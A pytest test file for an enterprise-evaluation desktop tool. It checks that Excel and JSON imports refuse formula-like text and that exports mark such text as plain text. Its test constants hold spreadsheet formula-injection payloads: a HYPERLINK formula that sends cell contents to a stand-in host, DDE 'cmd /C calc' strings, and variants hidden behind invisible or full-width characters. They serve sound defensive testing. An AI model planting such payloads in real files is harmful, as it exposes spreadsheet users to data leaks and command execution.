"""No formula in, no formula out: text a spreadsheet would run is refused on import (Excel and JSON
alike, whatever spaces precede it) unless marked as text, and every export writes text as text."""

import json

import pytest
from openpyxl import Workbook, load_workbook
from store_helpers import example_raw, fill_template, firm_row, make_uscc

from zjtx_desktop.cli import main
from zjtx_desktop.store import Database

HOSTILE = {
    "company_name": '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "registered_address": "-2+3+cmd|' /C calc'!A0",
    "legal_representative": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mailing_address": "\u3000=1+1",
}
DISGUISED = [" =1+1", "\t=HYPERLINK(\"http://example.invalid\",\"x\")", "\u3000=1+1", "\n@SUM(A1)", "＝1+1",
             "\u200b=1+1", "+A1*2", "-cmd|' /C calc'!A0"]


def firm_with(raw_overrides: dict) -> dict:
    return {**example_raw(0), **raw_overrides}


@pytest.mark.parametrize("text", DISGUISED)
def test_excel_import_refuses_formula_text_whatever_comes_before_it(db, tmp_path, text):
    workbook = fill_template(tmp_path / "f.xlsx", [firm_row(1), firm_row(2, 注册地址=text)])
    report = db.import_excel(workbook)
    assert [firm.uscc for firm in db.list_companies()] == [make_uscc(1)]
    assert "注册地址" in str(report.problems[0]) and "公式" in str(report.problems[0])


def test_excel_import_refuses_a_real_formula_cell(db, tmp_path):
    workbook = fill_template(tmp_path / "f.xlsx", [firm_row(1, 营业收入="=1000*2")])
    report = db.import_excel(workbook)
    assert db.list_companies() == [] and "是公式" in str(report.problems[0])


def test_plain_signed_figures_and_phone_numbers_are_not_formulas(db, tmp_path):
    workbook = fill_template(tmp_path / "f.xlsx", [firm_row(1, 注册地址="-", 联系人手机="13806001234")])
    assert db.import_excel(workbook).ok


@pytest.mark.parametrize("text", DISGUISED)
def test_json_import_refuses_formula_text_too(db, tmp_path, text):
    path = tmp_path / "firm.json"
    path.write_text(json.dumps(firm_with({"registered_address": text}), ensure_ascii=False), encoding="utf-8")
    report = db.import_json(path)
    assert db.list_companies() == [] and "公式" in str(report.problems[0]) and "注册地址" in str(report.problems[0])


def test_evaluate_refuses_formula_text_in_a_profile_file(tmp_path, capsys):
    path = tmp_path / "firm.json"
    path.write_text(json.dumps(firm_with({"registered_address": " =1+1"}), ensure_ascii=False), encoding="utf-8")
    assert main(["evaluate", str(path), "--date", "2025-11-20"]) == 2
    assert "公式" in capsys.readouterr().err


@pytest.fixture
def hostile_firm(db) -> int:
    """A firm whose texts look like formulas, as typed in the application (where typing is not refused)."""
    return db.create_company(firm_with(HOSTILE))


def formula_cells(path) -> list[str]:
    workbook = load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_exports_write_formula_like_text_as_marked_text(db, hostile_firm, tmp_path, data_dir):
    db.export_excel(tmp_path / "all.xlsx")
    db.close()
    assert main(["evaluate", "--all", "--out", str(tmp_path / "r.xlsx"), "--date", "2025-11-20",
                 "--data-dir", str(data_dir)]) == 0
    for path in (tmp_path / "all.xlsx", tmp_path / "r.xlsx"):
        assert formula_cells(path) == []
    sheet = load_workbook(tmp_path / "all.xlsx")["企业信息"]
    by_value = {cell.value: cell for cell in sheet[2]}
    for text in HOSTILE.values():
        stored = text.strip()
        assert by_value[stored].data_type == "s" and by_value[stored].quotePrefix, stored
    results = load_workbook(tmp_path / "r.xlsx")["评估结果"]
    assert results["A2"].value == HOSTILE["company_name"] and results["A2"].data_type == "s"


def test_the_excel_round_trip_keeps_formula_like_text_as_text(db, hostile_firm, tmp_path):
    db.export_excel(tmp_path / "all.xlsx")
    workbook = load_workbook(tmp_path / "all.xlsx")  # edited in Excel: a figure changed, the rest kept
    sheet = workbook["企业信息"]
    revenue = [cell.value for cell in sheet[1]].index("营业收入") + 1
    sheet.cell(row=2, column=revenue, value=20000000)
    workbook.save(tmp_path / "edited.xlsx")
    report = db.import_excel(tmp_path / "edited.xlsx", update_existing=True)
    assert report.ok and report.updated, report.summary()
    profile = db.profile(hostile_firm)
    assert profile.get("revenue") == 20000000
    assert {key: profile.get(key) for key in HOSTILE} == {key: text.strip() for key, text in HOSTILE.items()}


def test_the_json_round_trip_keeps_formula_like_text_as_text(db, hostile_firm, tmp_path):
    db.export_json(hostile_firm, tmp_path / "firm.json")
    assert json.loads((tmp_path / "firm.json").read_text(encoding="utf-8"))["company_name"].startswith("'=")
    with Database.open(tmp_path / "other") as other:
        assert other.import_json(tmp_path / "firm.json").ok
        profile = other.profile(other.list_companies()[0].id)
        assert {key: profile.get(key) for key in HOSTILE} == {key: text.strip() for key, text in HOSTILE.items()}


def test_a_workbook_written_by_another_program_with_an_unmarked_text_formula_is_refused(db, tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "企业信息"
    row = firm_row(1)
    sheet.append(list(row))
    sheet.append(list(row.values()))
    sheet.cell(row=2, column=list(row).index("法定代表人") + 1).value = "=1+1"
    sheet.cell(row=2, column=list(row).index("法定代表人") + 1).data_type = "s"  # text, but not marked as text
    workbook.save(tmp_path / "f.xlsx")
    report = db.import_excel(tmp_path / "f.xlsx")
    assert db.list_companies() == [] and "公式" in str(report.problems[0])


def test_results_outside_the_policy_dates_show_the_figure_only_as_reference(db, tmp_path, data_dir):
    from decimal import Decimal

    db.create_company(example_raw(4))
    db.close()
    assert main(["evaluate", "--all", "--out", str(tmp_path / "r.xlsx"), "--date", "2027-06-01",
                 "--data-dir", str(data_dir)]) == 0
    rows = list(load_workbook(tmp_path / "r.xlsx")["评估结果"].iter_rows(values_only=True))
    header, firm = rows[0], dict(zip(rows[0], rows[1], strict=False))
    reference = [h for h in header if h and "仅供参考" in h]
    assert reference, header
    measure = reference[0].split()[0]
    assert firm[[h for h in header if h.startswith(f"{measure} ") and h.endswith("结论")][0]] == "不在有效期"
    assert firm[f"{measure} 最高可申请（元）"] is None and Decimal(str(firm[reference[0]])) > 0
    assert firm["补助合计（元）"] == 0
    assert any("仅供参考" in str(row[0]) and "不计入合计" in str(row[0]) for row in rows[2:])


def test_signed_arithmetic_accepted_on_import_is_exported_with_the_text_mark(db, tmp_path):
    """"-2+3" is only arithmetic, so import takes it as text; but Excel would turn it into =-2+3 once the
    cell is edited. Export marks every text starting with = + - @ that is not a plain number; a plain
    negative figure stays as it is, and the round trip gives back the same texts."""
    texts = {"注册地址": "-2+3", "通讯地址": "-5", "联系人办公电话": "+86 592 1234567"}
    workbook = fill_template(tmp_path / "f.xlsx", [firm_row(1, **texts, 净利润=-50000)])
    assert db.import_excel(workbook).ok
    db.export_excel(tmp_path / "all.xlsx")
    sheet = load_workbook(tmp_path / "all.xlsx")["企业信息"]
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}
    assert cells["注册地址"].quotePrefix and cells["联系人办公电话"].quotePrefix
    assert cells["注册地址"].data_type == "s" and cells["注册地址"].value == "-2+3"
    assert not cells["通讯地址"].quotePrefix and cells["净利润"].value == -50000 and not cells["净利润"].quotePrefix
    report = db.import_excel(tmp_path / "all.xlsx", update_existing=True)
    assert report.ok and report.updated
    profile = db.profile(db.list_companies()[0].id)
    assert [profile.get(key) for key in ("registered_address", "mailing_address", "contact_phone")] == list(
        texts.values())
